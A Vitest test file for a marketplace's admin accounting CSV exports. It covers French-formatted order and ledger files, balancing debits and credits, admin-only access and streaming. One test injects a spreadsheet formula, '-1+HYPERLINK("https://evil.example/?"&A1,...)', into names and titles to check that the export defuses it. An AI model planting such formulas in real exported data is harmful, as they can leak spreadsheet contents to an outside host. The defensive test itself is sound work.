import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestApp, createTestApp } from '@test/app';
import { createUser, signIn } from '@test/factories';
import { TestClient } from '@test/http';
import { insertLotOrder, threeItemLot } from '@test/lot-order-factory';
import { orderParties, paidOrder } from '@test/order-factories';
import { randomUUID } from 'node:crypto';
import { accountBalances } from '../ledger/ledger-balances';
import { exportLedger } from './export-ledger';
import { exportOrders } from './export-orders';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => t.close());

const day = (offsetDays = 0) => new Date(t.clock.now().getTime() + offsetDays * 86_400_000).toISOString().slice(0, 10);

/** A completed 100 € order whose title would run as a formula, and a 30 € payout. */
async function booksWithOneOrder() {
  const p = await orderParties(t, { price_cents: 10_000, title: '=HYPERLINK("http://x.test";"Perruque")' });
  const orderId = await paidOrder(t, p);
  await p.adminClient.post(`/api/admin/orders/${orderId}/status`, { status: 'completed', reason: 'Livrée' });
  await p.adminClient.post('/api/admin/payouts', {
    sellerId: p.seller.id,
    amountCents: 3000,
    method: 'paypal',
    reference: 'PP-1',
  });
  return p;
}

const lines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');

describe('accounting exports', () => {
  it('exports the orders of a period for a French spreadsheet, and logs the export', async () => {
    const p = await booksWithOneOrder();
    const response = await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="boucles-commandes-${day()}-${day()}.csv"`,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header, ...rows] = lines(response.body);
    expect(header).toBe(
      'N° commande;Date (UTC);Statut;Acheteur;Vendeur;Ligne;Produit;Prix avant remise;Remise lot;Prix;Livraison (1re ligne);Total;Commission;Part vendeur;Mode de paiement;Paiement',
    );
    const row = rows.find((line) => line.includes('Fatou Vendeuse') && line.includes('HYPERLINK'));
    // The title is quoted (it holds ';' and '"') and defused with a leading apostrophe.
    expect(row).toContain(`"'=HYPERLINK(""http://x.test"";""Perruque"")"`);
    expect(row).toMatch(/;1 sur 1;.*;100,00;0,00;100,00;6,99;106,99;5,00;95,00;Virement bancaire;Payé$/);

    const logged = await t.ctx.db
      .selectFrom('admin_logs')
      .select(['action', 'target_id'])
      .where('admin_id', '=', p.admin.id)
      .where('action', '=', 'export_accounting')
      .execute();
    expect(logged).toEqual([{ action: 'export_accounting', target_id: 'orders' }]);
  });

  it('writes one row per line of a lot, the delivery once, and the rows add up to the order (decision 065)', async () => {
    const p = await orderParties(t);
    const { orderId } = await insertLotOrder(t, { buyerId: p.buyer.id, sellerId: p.seller.id }, threeItemLot, {
      percent: 10,
    });
    const order = await t.ctx.db
      .selectFrom('orders')
      .selectAll()
      .where('id', '=', orderId)
      .executeTakeFirstOrThrow();
    const csv = (await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).body;
    const rows = lines(csv).filter((line) => line.startsWith(`${order.order_number};`));
    expect(rows.map((line) => line.split(';').slice(5, 14).join(';'))).toEqual([
      '1 sur 3;Perruque lace frontal 20 pouces;50,00;5,00;45,00;6,99;51,99;2,25;42,75',
      '2 sur 3;Colle Bold Hold 40 ml;15,00;1,50;13,50;0,00;13,50;0,68;12,82',
      '3 sur 3;Bonnet en satin;10,00;1,00;9,00;0,00;9,00;0,45;8,55',
    ]);
    const cents = (column: number) =>
      rows.reduce((sum, line) => sum + Math.round(Number(line.split(';')[column]?.replace(',', '.')) * 100), 0);
    expect([cents(9), cents(10), cents(11), cents(12), cents(13)]).toEqual([
      order.price_cents,
      order.delivery_cost_cents,
      order.total_amount_cents,
      order.commission_cents,
      order.seller_amount_cents,
    ]);
  });

  it('defuses a party name or a title that a spreadsheet would run, in both exports', async () => {
    const formula = '-1+HYPERLINK("https://evil.example/?"&A1,"Voir")';
    const p = await orderParties(t, { price_cents: 2_000, title: '-2+3' });
    await t.ctx.db
      .updateTable('profiles')
      .set({ full_name: formula })
      .where('id', 'in', [p.buyer.id, p.seller.id])
      .execute();
    await paidOrder(t, p);
    const defused = `"'-1+HYPERLINK(""https://evil.example/?""&A1,""Voir"")"`;
    const orders = lines((await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).body);
    const row = orders.find((line) => line.includes('evil.example'));
    expect(row).toContain(`;${defused};${defused};1 sur 1;'-2+3;20,00;`);
    const ledger = lines((await p.adminClient.get(`/api/admin/accounting/ledger.csv?from=${day()}&to=${day()}`)).body);
    const partyLines = ledger.filter((line) => line.includes('evil.example'));
    expect(partyLines.length).toBeGreaterThan(0);
    for (const line of partyLines) expect(line).toContain(`;${defused};`);
  });

  it('exports ledger lines whose debits equal their credits, and gives balances at a date', async () => {
    const p = await booksWithOneOrder();
    const csv = (await p.adminClient.get(`/api/admin/accounting/ledger.csv?from=${day()}&to=${day()}`)).body;
    const [header, ...rows] = lines(csv);
    expect(header).toBe('Date (UTC);Mouvement;Opération;Compte;Tiers;N° commande;Débit;Crédit');
    const cents = (value: string | undefined) => (value ? Math.round(Number(value.replace(',', '.')) * 100) : 0);
    const fields = rows.map((line) => line.split(';'));
    const debits = fields.reduce((sum, f) => sum + cents(f[6]), 0);
    const credits = fields.reduce((sum, f) => sum + cents(f[7]), 0);
    expect(debits).toBe(credits);
    expect(rows.some((line) => line.includes('Versement au vendeur;Dû aux vendeurs;Fatou Vendeuse;;30,00;'))).toBe(
      true,
    );

    const today = (await p.adminClient.get(`/api/admin/accounting/balances?at=${day()}`)).json();
    const ledger = await accountBalances(t.ctx.db);
    expect(today.balanced).toBe(true);
    for (const account of today.accounts)
      expect(account.balanceCents).toBe(ledger[account.account as keyof typeof ledger]);
    const before = (await p.adminClient.get(`/api/admin/accounting/balances?at=${day(-1)}`)).json();
    expect(before.accounts.every((account: { balanceCents: number }) => account.balanceCents === 0)).toBe(true);
  });

  it('refuses bad dates in French, and anyone but an admin', async () => {
    const p = await orderParties(t);
    const bad = await p.adminClient.get('/api/admin/accounting/orders.csv?from=2026-02-30&to=2026-03-01');
    expect([bad.statusCode, bad.json().error.message]).toEqual([400, 'Veuillez indiquer une date valide (AAAA-MM-JJ)']);
    const reversed = await p.adminClient.get('/api/admin/accounting/ledger.csv?from=2026-03-02&to=2026-03-01');
    expect(reversed.json().error.message).toBe('La date de fin doit être postérieure ou égale à la date de début');
    const tooLong = await p.adminClient.get('/api/admin/accounting/ledger.csv?from=2024-01-01&to=2026-01-01');
    expect(tooLong.json().error.message).toBe('La période ne peut pas dépasser 366 jours');
    const user = await signIn(t, await createUser(t));
    for (const client of [user, p.sellerClient]) {
      expect((await client.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).statusCode).toBe(403);
      expect((await client.get(`/api/admin/accounting/balances?at=${day()}`)).statusCode).toBe(403);
    }
    expect((await new TestClient(t.app).get(`/api/admin/accounting/balances?at=${day()}`)).statusCode).toBe(401);
  });

  it('streams an export a batch at a time: the same file whatever the batch, and lines written meanwhile still come', async () => {
    const p = await booksWithOneOrder();
    const range = { from: day(), to: day() };
    const orders = (await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).body;
    let byOne = '';
    for await (const chunk of exportOrders(t.ctx.db, range, 1)) byOne += chunk;
    expect(byOne).toBe(orders);

    const ledger = (await p.adminClient.get(`/api/admin/accounting/ledger.csv?from=${day()}&to=${day()}`)).body;
    const chunks = exportLedger(t.ctx.db, range, 1);
    const header = (await chunks.next()).value;
    const firstLine = (await chunks.next()).value;
    expect(header + firstLine).toBe(`${lines(ledger).slice(0, 2).join('\r\n')}\r\n`.replace(/^/, '\uFEFF'));
    // The file's first bytes are out; a movement booked now, late in the day, is read when its turn comes.
    const movementId = randomUUID();
    const at = new Date(`${day()}T23:59:59.999Z`);
    await t.ctx.db
      .insertInto('ledger_entries')
      .values([
        { movement_id: movementId, kind: 'referral_bonus_paid', account: 'platform_cash', amount_cents: -100, created_at: at },
        { movement_id: movementId, kind: 'referral_bonus_paid', account: 'referral_expense', amount_cents: 100, created_at: at },
      ])
      .execute();
    let rest = '';
    for await (const chunk of chunks) rest += chunk;
    const streamed = header + firstLine + rest;
    expect(streamed.startsWith(ledger)).toBe(true);
    expect(lines(streamed.slice(ledger.length))).toEqual([
      expect.stringContaining(`${movementId};Bonus de parrainage payé`),
      expect.stringContaining(`${movementId};Bonus de parrainage payé`),
    ]);
  });
});
